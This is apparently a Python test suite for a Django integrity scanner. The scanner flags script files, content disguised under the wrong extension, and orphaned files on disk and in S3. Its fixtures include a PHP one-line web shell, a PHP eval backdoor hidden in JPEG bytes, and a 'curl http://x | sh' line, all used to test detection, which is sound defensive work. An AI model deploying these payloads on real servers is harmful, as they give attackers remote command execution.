"""The integrity watch on stored files: script files anywhere, content that is not what
the name says, and files that no row owns, on the local disk, in the private folder and
in an S3 bucket."""

import os
import time
from io import StringIO

import boto3
import pytest
from django.core.management import call_command
from moto import mock_aws

from articles.models import Photo
from integrity.models import Finding, Report

from .factories import jpeg_bytes, make_article, make_photo, make_video
from .test_documents import make_document
from .test_documents_upload import ooxml_bytes

pytestmark = pytest.mark.django_db

PHP = b"<?php system($_GET['c']); ?>"
DAY_AGO = time.time() - 24 * 3600


def check():
    call_command("check_integrity", "--no-mail", stdout=StringIO(), stderr=StringIO())
    return {(f.kind, f.where) for f in Report.objects.first().findings.all()}


def put(root, name, content, *, old=True):
    """A file written straight into a folder, as a web shell or a careless copy would;
    `old`: changed a day ago, past the grace an upload in progress gets."""
    path = root / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(content)
    if old:
        os.utime(path, (DAY_AGO, DAY_AGO))
    return path


def age(root):
    """Everything under `root` changed a day ago."""
    for folder, _dirs, files in os.walk(root):
        for name in files:
            os.utime(os.path.join(folder, name), (DAY_AGO, DAY_AGO))


@pytest.mark.parametrize(
    "name",
    [
        "shell.php",
        "photos/2026/05/x.phtml",
        "renditions/abc/og.php5",
        "avatar.php.jpg",
        ".htaccess",
        "documents/previews/spam.html",
        "logo.svg",
        "run.sh",
        "backdoor.py",
        "x.JS",
    ],
)
def test_a_script_file_anywhere_in_the_media_folder_is_reported(settings, name):
    put(settings.MEDIA_ROOT, name, b"anything", old=False)
    assert check() == {(Finding.Kind.SCRIPT_FILE, f"media/{name}")}


def test_a_script_file_in_the_private_folder_is_reported(settings):
    put(settings.PRIVATE_MEDIA_ROOT, "documents/abc/cmd.php", PHP, old=False)
    assert check() == {(Finding.Kind.SCRIPT_FILE, "private/documents/abc/cmd.php")}


def test_a_jpg_holding_php_code_is_reported_as_not_what_its_name_says(settings):
    put(settings.MEDIA_ROOT, "photos/2026/05/kegiatan.jpg", PHP, old=False)
    assert check() == {(Finding.Kind.MISMATCH, "media/photos/2026/05/kegiatan.jpg")}
    finding = Finding.objects.get()
    assert "<?php system" in finding.excerpt
    assert finding.severity == Finding.Severity.HIGH


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("laporan.pdf", b"<html><body>slot gacor</body></html>"),
        ("foto.png", jpeg_bytes()),  # a real image, but not a PNG
        ("foto.webp", b"RIFF\x00\x00\x00\x00WAVEfmt "),
        ("data.xlsx", b"%PDF-1.4 not a spreadsheet"),
        ("catatan.txt", b"#!/bin/sh\ncurl http://x | sh\n"),
        ("readme", b"<script>location='https://judi.example'</script>"),
        ("arsip.dat", b"MZ\x90\x00\x03\x00\x00\x00\x04\x00"),  # a Windows program
        ("ok.jpg", jpeg_bytes()[:200] + b"<?php eval($_POST[1]); ?>"),
    ],
)
def test_content_that_does_not_fit_the_name_is_reported(settings, name, content):
    put(settings.MEDIA_ROOT, name, content, old=False)
    assert check() == {(Finding.Kind.MISMATCH, f"media/{name}")}


def test_a_photo_its_renditions_and_other_owned_files_are_not_reported(settings):
    photo = make_photo()
    make_article(featured_photo=photo)
    make_video()
    make_document()
    make_document(content=ooxml_bytes("xlsx"), name="anggaran.xlsx")
    age(settings.MEDIA_ROOT)
    age(settings.PRIVATE_MEDIA_ROOT)
    assert check() == set()
    report = Report.objects.first()
    # The photo and its 5 renditions, the poster, the PDF's preview; the two documents.
    assert report.scanned["files"] == 10


def test_a_file_no_row_owns_is_reported_once_it_is_an_hour_old(settings):
    put(settings.MEDIA_ROOT, "photos/2026/05/lama.jpg", jpeg_bytes(), old=False)
    assert check() == set()  # may be an upload whose row is not committed yet
    put(settings.MEDIA_ROOT, "photos/2026/05/lama.jpg", jpeg_bytes())
    put(settings.PRIVATE_MEDIA_ROOT, "documents/abc/sisa.pdf", b"%PDF-1.4\n")
    assert check() == {
        (Finding.Kind.ORPHAN, "media/photos/2026/05/lama.jpg"),
        (Finding.Kind.ORPHAN, "private/documents/abc/sisa.pdf"),
    }
    assert Finding.objects.get(where="media/photos/2026/05/lama.jpg").severity == (
        Finding.Severity.LOW
    )


def test_renditions_belong_to_their_photo_while_it_exists(settings):
    photo = make_photo()
    stem = photo.image.name.rsplit("/", 1)[1].split(".")[0]
    # Left from an earlier focal point, not listed by the row any more: still the photo's.
    put(settings.MEDIA_ROOT, f"renditions/{stem}/fit-480x300-10-10.webp", b"RIFF\0\0\0\0WEBPVP8 ")
    # A folder of renditions whose photo is gone.
    put(settings.MEDIA_ROOT, "renditions/deadbeef/fit-480x300-50-50.jpg", jpeg_bytes())
    age(settings.MEDIA_ROOT)
    assert check() == {(Finding.Kind.ORPHAN, "media/renditions/deadbeef/fit-480x300-50-50.jpg")}
    Photo.objects.filter(pk=photo.pk).delete()
    found = check()
    assert (Finding.Kind.ORPHAN, f"media/renditions/{stem}/fit-480x300-10-10.webp") in found


def test_a_repository_placeholder_is_not_a_finding(settings):
    put(settings.MEDIA_ROOT, ".gitkeep", b"")
    assert check() == set()


def test_a_symlink_is_not_followed(settings, tmp_path):
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "secret.php").write_bytes(PHP)
    settings.MEDIA_ROOT.mkdir(parents=True, exist_ok=True)
    (settings.MEDIA_ROOT / "link").symlink_to(outside, target_is_directory=True)
    assert check() == set()


@pytest.fixture
def bucket(settings, monkeypatch):
    """The media storage on an S3 bucket (moto's in-process S3: the outside world)."""
    for name, value in {
        "AWS_ACCESS_KEY_ID": "testing",
        "AWS_SECRET_ACCESS_KEY": "testing",
        "AWS_DEFAULT_REGION": "us-east-1",
    }.items():
        monkeypatch.setenv(name, value)
    with mock_aws():
        client = boto3.client("s3", region_name="us-east-1")
        client.create_bucket(Bucket="humas-media")
        settings.STORAGES = {
            **settings.STORAGES,
            "default": {
                "BACKEND": "storages.backends.s3.S3Storage",
                "OPTIONS": {
                    "bucket_name": "humas-media",
                    "region_name": "us-east-1",
                    "default_acl": None,
                    "file_overwrite": False,
                    "querystring_auth": False,
                },
            },
        }
        yield client


def test_on_s3_a_php_file_and_a_disguised_jpg_are_reported_and_photos_are_not(bucket):
    photo = make_photo()
    keys = {item["Key"] for item in bucket.list_objects_v2(Bucket="humas-media")["Contents"]}
    assert photo.image.name in keys  # the photo went to the bucket
    bucket.put_object(Bucket="humas-media", Key="shell.php", Body=PHP)
    bucket.put_object(Bucket="humas-media", Key="photos/2026/05/x.jpg", Body=PHP)
    assert check() == {
        (Finding.Kind.SCRIPT_FILE, "media/shell.php"),
        (Finding.Kind.MISMATCH, "media/photos/2026/05/x.jpg"),
    }
    assert "system($_GET" in Finding.objects.get(kind=Finding.Kind.SCRIPT_FILE).excerpt
    assert Report.objects.first().scanned["files"] == len(keys) + 2
